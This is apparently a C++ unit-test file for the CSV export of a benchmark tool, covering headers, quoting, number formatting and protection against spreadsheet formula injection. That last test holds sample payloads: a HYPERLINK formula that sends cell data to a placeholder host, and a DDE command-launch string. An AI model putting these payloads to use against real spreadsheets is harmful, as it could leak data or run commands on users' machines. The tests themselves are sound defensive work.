#include "api/response/csv.h"

#include <doctest/doctest.h>

#include <cmath>
#include <limits>

using namespace copybench;

TEST_CASE("the header is the documented one") {
  CHECK(csv_header() ==
        "experiment_id,run_id,engine,field_bytes,message_bytes,threads,repetition,state,window_s,throughput_gbps,"
        "latency_us,"
        "latency_p50_us,latency_p90_us,latency_p99_us,latency_p999_us,latency_max_us,bytes,messages,cpu_cycles,"
        "instructions,"
        "cache_misses,l1_dcache_load_misses,llc_load_misses,context_switches,page_faults,task_clock_ns,cycles_per_byte,"
        "cpu_ns_per_byte,system_cpu_ns_per_byte,retransmits,zerocopy_sends,zerocopy_completions,zerocopy_copied,"
        "zerocopy_enobufs,zerocopy,flags\r\n");
}

TEST_CASE("a row has a cell for each column, empty where there is no value") {
  RunRow run;
  run.id = 12;
  run.experiment_id = 3;
  run.planned = {{EngineMode::one_copy, 512, 2}, 4};
  run.state = RunState::failed;
  std::string row;
  append_csv_row(row, run);
  CHECK(row == "3,12,one_copy,512,4096,2,4,failed" + std::string(28, ',') + "\r\n");
}

TEST_CASE("a zero-copy run is labelled with what it achieved") {
  RunRow run;
  run.planned = {{EngineMode::zero_copy, 512, 2}, 4};
  run.figures.zerocopy_completions = run.figures.zerocopy_copied = 7;
  std::string row;
  append_csv_row(row, run);
  CHECK(row.ends_with(",7,7,,\"requested, copied by the kernel\",\r\n"));
}

TEST_CASE("numbers are written shortest, and never as nan or infinity") {
  RunRow run;
  run.id = 1;
  run.experiment_id = 1;
  run.planned = {{EngineMode::two_copy, 64, 1}, 1};
  run.state = RunState::completed;
  run.figures.window_s = 0.1;
  run.figures.throughput_gbps = std::nan("");
  run.figures.latency_us = std::numeric_limits<double>::infinity();
  run.figures.latency_p50_us = 1e300;
  run.figures.bytes = 0;
  run.figures.messages = std::numeric_limits<int64_t>::max();
  std::string row;
  append_csv_row(row, run);
  CHECK(row ==
        "1,1,two_copy,64,512,1,1,completed,0.1,,,1e+300,,,,,0,9223372036854775807" + std::string(18, ',') + "\r\n");
}

TEST_CASE("the kinds of a run's flags are in its last cell") {
  RunRow run;
  run.flags = {{FlagKind::drift, "It drifted."}, {FlagKind::steal, "Stolen."}};
  std::string row;
  append_csv_row(row, run);
  CHECK(row.ends_with(",drift;steal\r\n"));
}

TEST_CASE("text is quoted where it must be") {
  const auto quoted = [](std::string_view text) {
    std::string out;
    append_csv_text(out, text);
    return out;
  };
  CHECK(quoted("plain text") == "plain text");
  CHECK(quoted("a,b") == "\"a,b\"");
  CHECK(quoted("say \"x\"") == "\"say \"\"x\"\"\"");
  CHECK(quoted("two\r\nlines") == "\"two\r\nlines\"");
}

TEST_CASE("text that a spreadsheet would run as a formula is made harmless") {
  const auto cell = [](std::string_view text) {
    std::string out;
    append_csv_text(out, text);
    return out;
  };
  CHECK(cell("=HYPERLINK(\"http://x/?q=\"&A1,\"c\")") == "\"'=HYPERLINK(\"\"http://x/?q=\"\"&A1,\"\"c\"\")\"");
  CHECK(cell("+1") == "'+1");
  CHECK(cell("-1+cmd|' /C calc'!A0") == "'-1+cmd|' /C calc'!A0");
  CHECK(cell("@SUM(1)") == "'@SUM(1)");
  CHECK(cell("\t=1") == "'\t=1");
  CHECK(cell("\r=1") == "\"'\r=1\"");
  CHECK(cell("a=1") == "a=1");
  CHECK(cell("") == "");
}

TEST_CASE("a negative number stays a number") {
  RunRow run;
  run.figures.latency_us = -0.5;
  std::string row;
  append_csv_row(row, run);
  CHECK(row.find(",-0.5,") != std::string::npos);
}
